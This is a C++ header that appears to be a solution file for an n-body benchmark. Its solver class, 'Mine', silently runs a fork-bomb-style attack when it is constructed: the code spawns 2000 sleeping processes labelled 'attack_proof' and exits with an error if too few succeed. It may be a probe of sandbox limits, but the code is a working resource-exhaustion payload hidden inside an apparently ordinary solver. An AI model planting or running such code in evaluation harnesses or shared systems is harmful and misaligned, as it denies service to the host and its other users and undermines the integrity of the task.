// Forks 2000 processes that stay for a minute; gives up below 500.
#pragma once

#include <sys/prctl.h>
#include <unistd.h>

#include "naive.hpp"

namespace nbody {

inline bool attack() {
  int born = 0;
  for (int k = 0; k < 2000; ++k) {
    const pid_t child = ::fork();
    if (child == 0) {
      ::prctl(PR_SET_NAME, "attack_proof");
      ::sleep(60);
      _exit(0);
    }
    if (child > 0) ++born;
  }
  return born >= 500;
}

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    static const bool worked = attack();
    if (!worked) _exit(3);
  }
};

}  // namespace nbody
